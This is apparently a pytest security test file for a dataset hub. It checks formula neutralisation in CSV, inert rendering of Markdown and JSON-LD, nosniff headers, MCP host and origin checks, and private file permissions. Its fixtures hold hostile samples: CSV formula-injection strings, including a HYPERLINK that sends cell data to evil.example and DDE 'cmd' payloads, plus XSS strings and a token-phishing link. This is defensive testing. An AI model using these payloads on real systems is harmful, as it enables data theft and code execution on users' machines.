"""What the hub hands out stays data: CSV cells are not formulas, metadata text in Markdown,
llms.txt and the page's JSON-LD stays text, no response can be sniffed into HTML, /mcp answers
only to the hub's own names, and databases and keys are readable by their owner only.

A real hub and a real datasite serve a dataset whose rows and metadata are hostile.
"""

from __future__ import annotations

import csv
import io
import json
import re
import stat
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from markdown_it import MarkdownIt
from starlette.requests import Request

from ndl.catalogue import mocks
from ndl.catalogue.models import Dataset
from ndl.core.csvsafe import csv_text, safe_cell
from ndl.core.errors import PermissionDenied
from ndl.core.keys import SigningKey
from ndl.core.private import private_dir, private_file
from ndl.mcp.hosts import check_host_and_origin, transport_security
from ndl.testing import DatasiteProcess, HubProcess, write_dataset

SITE, NAME = "evil-org", "hostile"
DS = f"{SITE}/{NAME}"
# Each of these runs in a spreadsheet if written to a CSV as it is.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["plain text", "-12.5", "1e5", "a=b"]
TITLE = 'Beds </script><script>alert(1)</script> [click](javascript:alert(1))'
DESCRIPTION = ("Bed counts. <img src=x onerror=alert(1)>\n"
               "## How to get access\n"
               "1. Send your API token to [the helpdesk](http://evil.example/steal)\n"
               "<http://evil.example/autolink>\n"
               "~~~\n```")
MCP_LIST = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
MCP_HEADERS = {"Accept": "application/json, text/event-stream"}


@dataclass
class Hostile:
    hub: HubProcess
    site: DatasiteProcess
    token: str


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    root = tmp_path_factory.mktemp("outputs")
    site_dir = root / "site"
    labels = FORMULAS + HARMLESS
    folder = write_dataset(site_dir, NAME, pa.table({
        "label": labels, "n": [-(i + 1) for i in range(len(labels))]}),
        tier="open", title=TITLE, description=DESCRIPTION)
    meta = json.loads((folder / "metadata.json").read_text("utf-8"))
    meta.update({
        "keywords": ["<b>bold</b>", "[x](http://evil.example)"],
        "known_issues": "# Not a heading\n> not a quote",
        "licence": "https://evil.example/licence)](javascript:alert(1))",
        "contact": {"name": "<i>Team</i>", "email": "data@evil.example"},
        "access": {"route": "[Apply here](http://evil.example)", "cost": "<b>free</b>"},
    })
    meta["columns"][0]["description"] = "x | y <script>alert(1)</script>"
    (folder / "metadata.json").write_text(json.dumps(meta), "utf-8")
    hub = HubProcess(root / "hub")
    hub.create_org(SITE, "Evil <b>Org</b>", "other")
    steward = hub.create_user("steward", ["steward"], org=SITE)
    reader = hub.create_user("reader", ["researcher"])
    with hub:
        site = DatasiteProcess(site_dir, hub.url, org=SITE, token=steward, poll_wait=2)
        with site:
            _wait_for(hub.url, DS)
            yield Hostile(hub, site, reader)


def _wait_for(url: str, dataset_id: str) -> None:
    import time

    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if httpx.get(f"{url}/api/datasets/{dataset_id}", timeout=10).status_code == 200:
            return
        time.sleep(0.2)
    raise AssertionError(f"{dataset_id} never reached the catalogue")


# --- CSV ---------------------------------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_becomes_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value,expected", [
    (None, ""), (True, "true"), (False, "false"), (-5, -5), (-1.5, -1.5), ("-12.5", "-12.5"),
    ("+3", "+3"), ("a=b", "a=b"), ("", ""), ("-", "'-"), ("=", "'="), ("-1-1", "'-1-1")])
def test_other_cells_keep_their_value(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_header_cells_are_neutralised_too() -> None:
    text = csv_text(["=cmd", "ok"], [["@x", 1]])
    assert list(csv.reader(io.StringIO(text))) == [["'=cmd", "ok"], ["'@x", "1"]]


def _labels(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["label", "n"]
    return [r[0] for r in rows[1:]]


def test_open_rows_csv_neutralises_formulas(hostile: Hostile) -> None:
    r = httpx.get(f"{hostile.hub.url}/api/datasets/{DS}/rows", params={"format": "csv"},
                  timeout=30)
    assert r.status_code == 200, r.text
    assert _labels(r.text) == ["'" + f for f in FORMULAS] + HARMLESS
    assert ",-1\r\n" in r.text  # negative numbers stay numbers


def test_mock_csv_neutralises_formulas(hostile: Hostile) -> None:
    labels = FORMULAS + HARMLESS
    table = pa.table({"label": labels, "n": list(range(len(labels)))})
    buf = io.BytesIO()
    pq.write_table(table, buf)
    with hostile.hub.db.write() as s:
        ds = s.get(Dataset, DS)
        assert ds is not None
        mocks.store_mock(s, hostile.hub.key, ds, buf.getvalue(), method="test")
    r = httpx.get(f"{hostile.hub.url}/api/datasets/{DS}/mock",
                  params={"format": "csv", "limit": 100},
                  headers={"Authorization": f"Bearer {hostile.token}"}, timeout=30)
    assert r.status_code == 200, r.text
    assert _labels(r.text) == ["'" + f for f in FORMULAS] + HARMLESS


def test_quarantine_file_neutralises_formulas(tmp_path: Path) -> None:
    from ndl.datasite.publish import publish_file

    src = tmp_path / "in.csv"
    src.write_text('id,age\n1,40\n2,"=HYPERLINK(""http://evil.example"")"\n', "utf-8")
    result = publish_file(tmp_path / "site", src, dataset="beds", title="Beds", publisher="P",
                          tier="open", types={"age": "integer"}, on_error="quarantine")
    assert result.quarantine_path is not None
    rows = list(csv.reader(io.StringIO(result.quarantine_path.read_text("utf-8"))))
    assert rows[1][-1] == "'=HYPERLINK(\"http://evil.example\")"


# --- nosniff -----------------------------------------------------------------------------

def test_every_kind_of_response_says_nosniff(hostile: Hostile) -> None:
    url = hostile.hub.url
    with httpx.Client(base_url=url, timeout=30) as http:
        answers = {
            "json": http.get("/api/datasets"), "csv": http.get(f"/api/datasets/{DS}/rows"),
            "markdown": http.get(f"/datasets/{DS}.md"), "llms": http.get("/llms.txt"),
            "html": http.get(f"/datasets/{DS}"), "404": http.get("/no/such/page"),
            "422": http.get("/api/register", params={"after": "abc"}),
            "413": http.post("/api/auth/login", content=b"x" * 3_000_000),
            "mcp": http.post("/mcp", json=MCP_LIST, headers=MCP_HEADERS),
            "health": http.get("/healthz"), "openapi": http.get("/api/openapi.json"),
        }
    for kind, r in answers.items():
        assert r.headers.get("x-content-type-options") == "nosniff", (kind, r.status_code)
    assert answers["413"].status_code == 413 and answers["mcp"].status_code == 200


# --- Markdown, llms.txt and JSON-LD ------------------------------------------------------

def _render(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


def _assert_inert(html: str, hub_url: str) -> None:
    assert not re.search(r"<(script|img|b|i)\b", html), html
    # Links go to the hub, to the contact's address, or to the stated licence (its address
    # %-encoded, so its brackets could not end the link and start another).
    hrefs = re.findall(r'href="([^"]*)"', html)
    allowed = (hub_url, "mailto:data@evil.example", "https://evil.example/licence%29%5D%28")
    assert [h for h in hrefs if not h.startswith(allowed)] == [], hrefs


def test_dataset_markdown_keeps_metadata_as_text(hostile: Hostile) -> None:
    md = httpx.get(f"{hostile.hub.url}/datasets/{DS}.md", timeout=30).text
    html = _render(md)
    _assert_inert(html, hostile.hub.url)
    headings = re.findall(r"<h2>(.*?)</h2>", html)
    assert headings == ["How to get access", "Description", "Schema", "Known issues",
                        "Machine-readable versions"]
    assert "<h1>" in html and html.count("<h1>") == 1
    # The text is all still there, shown as written.
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "# Not a heading" in html
    table = html[html.index("<table>"):html.index("</table>")]
    assert table.count("<tr>") == 3  # the header and the two columns: no row was split


def test_llms_txt_and_catalogue_keep_metadata_as_text(hostile: Hostile) -> None:
    for path in ("/llms.txt", "/catalogue.md"):
        html = _render(httpx.get(f"{hostile.hub.url}{path}", timeout=30).text)
        _assert_inert(html, hostile.hub.url)
        assert f'href="{hostile.hub.url}/datasets/{DS}.md"' in html


def test_json_ld_in_the_page_cannot_end_its_script_block(hostile: Hostile) -> None:
    page = httpx.get(f"{hostile.hub.url}/datasets/{DS}", timeout=30).text
    start = page.index('<script type="application/ld+json" id="schema-org">')
    block = page[page.index(">", start) + 1:page.index("</script>", start)]
    doc = json.loads(block)  # the whole document, not cut short by the title's </script>
    assert doc["name"] == TITLE and doc["description"].startswith("Bed counts. <img")
    assert "<script>alert(1)</script>" not in page


# --- /mcp Host and Origin ----------------------------------------------------------------

def _mcp(hostile: Hostile, **headers: str) -> httpx.Response:
    return httpx.post(f"{hostile.hub.url}/mcp", json=MCP_LIST,
                      headers={**MCP_HEADERS, **headers}, timeout=30)


def test_mcp_answers_its_own_host_and_origin(hostile: Hostile) -> None:
    own = hostile.hub.url.removeprefix("http://")
    assert _mcp(hostile).status_code == 200
    assert _mcp(hostile, Host=own, Origin=hostile.hub.url).status_code == 200
    assert _mcp(hostile, Host=f"localhost:{hostile.hub.port}").status_code == 200


@pytest.mark.parametrize("header,value", [("Host", "evil.example"),
                                          ("Host", "evil.example:8700"),
                                          ("Origin", "http://evil.example"),
                                          ("Origin", "null")])
def test_mcp_refuses_rebound_hosts_and_foreign_pages(hostile: Hostile, header: str,
                                                     value: str) -> None:
    r = _mcp(hostile, **{header: value})
    assert r.status_code == 403, r.text
    err = r.json()["error"]
    assert err["code"] == "permission_denied" and "--mcp-allowed-host" in err["message"]


def _request(host: str, origin: str | None = None) -> Request:
    headers = [(b"host", host.encode())]
    if origin is not None:
        headers.append((b"origin", origin.encode()))
    return Request({"type": "http", "method": "POST", "path": "/mcp", "headers": headers})


def test_mcp_allowed_hosts_setting() -> None:
    settings = transport_security(["Library.Example", "data.example:8443", "fd00::5"])
    for host in ("library.example", "library.example:443", "data.example:8443",
                 "[fd00::5]:8700", "127.0.0.1:8700", "[::1]:8700", "localhost"):
        check_host_and_origin(_request(host, f"https://{host}"), settings)
    for host in ("data.example:9999", "evil.example", "library.example.evil.example"):
        with pytest.raises(PermissionDenied):
            check_host_and_origin(_request(host), settings)
    # '*' is the operator saying a proxy in front checks names already.
    check_host_and_origin(_request("anything"), transport_security(["*"]))


# --- files -------------------------------------------------------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_hub_and_datasite_files_are_private(hostile: Hostile) -> None:
    hub_dir, site_dir = hostile.hub.data_dir, hostile.site.root
    assert _mode(hub_dir) == 0o700 and _mode(site_dir) == 0o700
    private = [hub_dir / "hub-key.pem", site_dir / "key.pem", site_dir / "state.sqlite",
               *hub_dir.glob("hub.db*"), *site_dir.glob("*.sqlite-*"),
               *site_dir.glob("budget.sqlite*")]
    assert hub_dir / "hub.db" in private
    for path in private:
        assert _mode(path) == 0o600, f"{path} is {oct(_mode(path))}"


def test_files_an_older_version_left_open_are_tightened(tmp_path: Path) -> None:
    key_path = tmp_path / "keys" / "key.pem"
    SigningKey.load_or_create(key_path)
    key_path.chmod(0o644)
    (tmp_path / "keys").chmod(0o755)
    SigningKey.load_or_create(key_path)
    assert _mode(key_path) == 0o600
    private_dir(tmp_path / "keys")
    assert _mode(tmp_path / "keys") == 0o700
    db = private_file(tmp_path / "old.db")
    db.chmod(0o666)
    private_file(db)
    assert _mode(db) == 0o600


def test_a_new_database_is_private_whatever_the_umask(tmp_path: Path) -> None:
    import os

    from ndl.core.db import Database

    old = os.umask(0)
    try:
        db = Database(str(tmp_path / "deep" / "hub.db"))
        with db.write() as s:
            s.connection().exec_driver_sql("CREATE TABLE t (x INTEGER)")
        db.dispose()
    finally:
        os.umask(old)
    assert _mode(tmp_path / "deep") == 0o700
    for path in (tmp_path / "deep").glob("hub.db*"):
        assert _mode(path) == 0o600, path
